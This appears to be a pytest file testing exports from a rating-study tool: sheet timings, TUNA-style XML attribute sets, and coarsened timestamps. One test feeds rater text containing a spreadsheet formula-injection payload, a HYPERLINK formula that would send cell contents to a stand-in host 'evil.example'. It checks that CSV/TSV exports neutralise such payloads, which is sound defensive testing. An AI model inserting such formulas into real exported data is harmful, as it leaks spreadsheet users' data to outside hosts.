"""Exports besides ratings: how long sheets took, and attribute sets as TUNA has them."""

import csv
import json
from datetime import datetime
from pathlib import Path

import numpy as np
import pytest

from balanced_scenes import FURNITURE, make_balanced_scenes
from genchal.campaign.reading.instances import load_instances
from genchal.campaign.studies.create import StudyMaterial, plan_study, store_plans
from genchal.campaign.studies.export import TIMES, TimeUnit, export_study
from genchal.campaign.studies.stored import RunningStudy, read_study
from genchal.domain import Instance, Scene
from genchal.domain.scenes.places import stated_places
from genchal.domain.study.keys import parse_design
from genchal.elicitation.attribute_marking import read_attribute_set
from genchal.errors import InvalidInput
from genchal.resources.spreadsheets import defuse_formulas
from genchal.store.export import list_answered_sheets, read_ratings
from genchal.store.store import Store
from web.raters import Clock, Person, serve_study


def rows_of(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def test_times_are_exported_sheet_by_sheet(store: Store, clock: Clock, tmp_path: Path) -> None:
    study = serve_study(store, count=1, practice=1, conditions={"text": 0.5, "picture": 0.5}, raters_per_item=1)
    ann = Person(store, clock, study)
    ann.start()
    clock.now += 30
    reported = {"active_ms": 20_500, "idle_ms": 8_000, "hidden_ms": 1_500, "wall_ms": 30_000}
    ann.send(ann.answers(), own={"_timings": json.dumps(reported)})
    ann.work()
    done = export_study(store, "study", times=tmp_path / "times.csv")
    found = rows_of(tmp_path / "times.csv")
    assert done.table is None
    assert done.sheets == len(found) == 4
    assert done.sentence() == "4 ratings; 4 sheets"
    assert list(found[0]) == list(TIMES)
    assert [row["kind"] for row in found] == ["practice", "scored", "scored", "scored"]
    assert [found[0][name] for name in ("active_seconds", "idle_seconds", "hidden_seconds")] == ["20.5", "8.0", "1.5"]
    assert found[1]["active_seconds"] == ""  # a page without script does not count
    assert {row["condition"] for row in found} == {"text", "picture"}
    assert {(row["rater"], row["items"], row["state"]) for row in found} == {("rater-0001", "1", "done")}
    assert [float(row["answered_at"]) - float(row["shown_at"]) for row in found] == [30.0] * 4
    for suffix in (".tsv", ".jsonl", ".parquet"):
        export_study(store, "study", times=tmp_path / f"times{suffix}")
        assert (tmp_path / f"times{suffix}").stat().st_size


def test_answers_that_came_too_late_are_in_the_times_as_surplus(one_store: Store, clock: Clock) -> None:
    study = serve_study(one_store, count=1, raters_per_item=1, sheets_per_rater=1)
    late = Person(one_store, clock, study)
    late.start()
    answers = late.answers()
    clock.now += 2 * study.lease_seconds
    for seed in range(1, 4):  # one for each of the three sheets
        other = Person(one_store, clock, study, seed)
        other.start()
        other.work()
    late.send(answers)
    with one_store.reading() as transaction:
        sheets = list(list_answered_sheets(transaction, study.study.id))
    assert [(one.rater, one.state) for one in sheets if one.state != "done"] == [("rater-0001", "surplus")]


def scenes_study(store: Store, method: str, instances: tuple[Instance, ...], **keys: object) -> RunningStudy:
    """A study of scenes; two systems have described each of them."""
    scenes = [one.input for one in instances if isinstance(one.input, Scene)]
    texts = [f"the {one.targets[0].attributes[0].value} & its <friend>" for one in scenes]
    outputs = {"north": texts, "south": [f"{text} over there" for text in texts]}
    usual = {"name": "study", "method": method, "identity": "anonymous", "codes": {"complete": "DONE-1"}}
    plans = plan_study(parse_design({**usual, **keys}), StudyMaterial(instances, outputs), 1)
    (made,) = store_plans(store, plans, 1, 0.0)
    return read_study(made.study)


SCENES = tuple(make_balanced_scenes(FURNITURE, 3, np.random.default_rng(1)))


def test_marked_attributes_are_read_back_by_the_tuna_loader(one_store: Store, clock: Clock, tmp_path: Path) -> None:
    study = scenes_study(one_store, "attribute_marking", SCENES, raters_per_item=2, negations=True, practice=1)
    for seed in range(2):
        person = Person(one_store, clock, study, seed)
        person.start()
        person.work()
    done = export_study(one_store, "study", attribute_sets=tmp_path / "marked.xml")
    with one_store.reading() as transaction:
        values = [one for one in read_ratings(transaction, study.study.id) if one.kind == "scored"]
    _, read = load_instances(tmp_path / "marked.xml", "tuna", None)
    assert done.trials == len(read) == 6
    assert {one.id for one in read} == {f"{one.id}-{system}" for one in SCENES for system in ("north", "south")}
    entities = {one.id: one.input.entities for one in SCENES if isinstance(one.input, Scene)}
    for one in read:
        instance, system = one.id.rsplit("-", 1)
        assert isinstance(one.input, Scene)
        assert one.input.entities == entities[instance]
        assert one.references[0].endswith("<friend>" if system == "north" else "over there")
        own = sorted((v for v in values if (v.instance, v.system) == (instance, system)), key=lambda v: v.rater)
        assert one.input.attribute_sets == tuple(read_attribute_set(v.value) for v in own)
        assert len(own) == 2
    text = (tmp_path / "marked.xml").read_text(encoding="utf-8")
    assert text.count("<ANNOTATED-WORD-STRING>") == 12


def test_a_folder_has_the_sets_of_each_rater(one_store: Store, clock: Clock, tmp_path: Path) -> None:
    study = scenes_study(one_store, "attribute_marking", SCENES[:1], raters_per_item=2)
    for seed in range(2):
        person = Person(one_store, clock, study, seed)
        person.start()
        person.work()
    export_study(one_store, "study", attribute_sets=tmp_path / "sets")
    files = sorted((tmp_path / "sets").iterdir())
    assert [path.name for path in files] == ["rater-0001.xml", "rater-0002.xml"]
    for path in files:
        _, read = load_instances(path, "tuna", None)
        assert [len(one.input.attribute_sets) for one in read if isinstance(one.input, Scene)] == [1] * 2


def test_words_stand_in_the_attributes_that_they_express(one_store: Store, clock: Clock, tmp_path: Path) -> None:
    study = scenes_study(one_store, "attribute_marking", SCENES[:1], raters_per_item=1, choices="target")
    person = Person(one_store, clock, study)
    person.start()
    (item,) = person.stored().items
    fields = study.method.fields(study.sheet(person.stored()))
    spans = [{"start": 0, "end": 3, "category": "other"}, {"start": 4, "end": item.text.index(" &"), "category": "a0"}]
    person.send({fields[0]: json.dumps(spans)})
    export_study(one_store, "study", attribute_sets=tmp_path / "marked.xml")
    text = (tmp_path / "marked.xml").read_text(encoding="utf-8")
    assert isinstance(SCENES[0].input, Scene)
    name, value, _ = min(SCENES[0].input.targets[0].attributes)
    words = item.text[4 : item.text.index(" &")]
    expected = (
        f'<ATTRIBUTE NAME="other" VALUE="other">the</ATTRIBUTE> <ATTRIBUTE NAME="{name}" VALUE="{value}">{words}<'
    )
    assert expected in text
    assert "&amp; its &lt;friend&gt;" in text


def test_descriptions_become_trials_that_can_be_marked(one_store: Store, clock: Clock, tmp_path: Path) -> None:
    conditions = {"loc": 0.5, "noloc": 0.5}
    study = scenes_study(one_store, "describing", SCENES, raters_per_item=2, conditions=conditions)
    for seed in range(2):
        person = Person(one_store, clock, study, seed)
        person.start()
        person.work()
    export_study(one_store, "study", attribute_sets=tmp_path / "described.xml")
    _, read = load_instances(tmp_path / "described.xml", "tuna", None)
    with one_store.reading() as transaction:
        values = {
            (f"{one.instance}-{one.rater}", one.criterion): json.loads(one.value)
            for one in read_ratings(transaction, study.study.id)
        }
    assert len(read) == 6
    assert {one.meta["condition"] for one in read} == {"+LOC", "-LOC"}
    for one in read:
        assert isinstance(one.input, Scene)
        assert one.references == (values[one.id, "description"],)
        places = {name: tuple(where) for name, where in values[one.id, "positions"].items()}
        assert stated_places(one.input) == places  # where things stood for this rater
        assert not one.input.attribute_sets
    outputs = {"people": [one.references[0] for one in read]}
    keys = {"name": "marking", "method": "attribute_marking"}
    assert plan_study(parse_design(keys), StudyMaterial(tuple(read), outputs), 1)[0].composition.blocks


def test_other_methods_have_no_attribute_sets(one_store: Store, tmp_path: Path) -> None:
    serve_study(one_store, "likert")
    with pytest.raises(InvalidInput, match="its method is likert"):
        export_study(one_store, "study", attribute_sets=tmp_path / "x.xml")
    assert not list(tmp_path.iterdir())


def test_texts_of_raters_are_no_formulas_in_spreadsheets(one_store: Store, clock: Clock, tmp_path: Path) -> None:
    study = serve_study(one_store, "writing", count=1, allowed="", raters_per_item=1)
    evil = '=HYPERLINK("http://evil.example?"&A1,"more")'
    person = Person(one_store, clock, study)
    person.start()
    person.send(dict.fromkeys(person.answers(), evil))
    for suffix in (".csv", ".tsv"):
        export_study(one_store, "study", texts=tmp_path / f"texts{suffix}")
    (row,) = rows_of(tmp_path / "texts.csv")
    assert row["value"] == json.dumps(evil)  # as spreadsheets see it: a text in quotes
    with (tmp_path / "texts.tsv").open(encoding="utf-8", newline="") as file:
        (row,) = csv.DictReader(file, delimiter="\t")  # takes quotes away, as spreadsheets do
    assert row["value"] == f"'{json.dumps(evil)}"


@pytest.mark.parametrize(
    ("text", "written"),
    [
        *((text, f"'{text}") for text in ("=1+1", "+a", "-a", "@a", "\t=1", " =1", "\uff1d1", "-1-1", "+1_0")),
        *((text, text) for text in ("-1", "+1", "-1.5e-3", "1", "", "a=b", "'=1", "text")),
    ],
)
def test_formulas_become_texts_and_numbers_stay(text: str, written: str) -> None:
    assert defuse_formulas(".csv", ["name", "value"], [(text, text)], {"value"}) == [(text, written)]
    assert defuse_formulas(".jsonl", ["value"], [(text,)], {"value"}) == [(text,)]


@pytest.mark.parametrize(
    ("unit", "start"), [("hour", "2027-01-15T08:00"), ("day", "2027-01-15T00:00"), ("week", "2027-01-11T00:00")]
)
def test_moments_are_coarsened_on_request_and_durations_stay(
    one_store: Store, clock: Clock, tmp_path: Path, unit: TimeUnit, start: str
) -> None:
    study = serve_study(one_store, count=1, raters_per_item=1)
    person = Person(one_store, clock, study)
    clock.now += 1234.5
    person.start()
    person.work()
    out, times = tmp_path / "ratings.csv", tmp_path / "times.csv"
    export_study(one_store, "study", out, times=times, coarse_times=unit)
    moment = datetime.fromisoformat(f"{start}+00:00").timestamp()
    for row in [*rows_of(out), *rows_of(times)]:
        assert float(row["shown_at"]) == moment
        assert float(row["answered_at"]) == moment + 30
    export_study(one_store, "study", out)
    assert {float(row["shown_at"]) for row in rows_of(out)} != {moment}
